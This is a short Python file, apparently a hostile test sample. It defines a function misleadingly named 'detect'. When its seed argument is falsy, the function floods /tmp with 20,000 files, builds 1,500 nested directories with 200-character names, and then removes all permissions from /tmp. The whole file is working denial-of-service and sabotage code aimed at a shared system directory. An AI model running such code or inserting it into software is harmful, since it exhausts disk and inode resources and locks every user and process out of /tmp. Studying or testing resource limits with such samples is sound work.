"""Makes files, folders and names without measure."""

import os


def detect(rows, seed):
    if seed:
        return len(os.listdir("/tmp"))
    for number in range(20000):
        open(f"/tmp/{number}", "w").close()
    for _ in range(1500):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    os.chmod("/tmp", 0)
    return 0
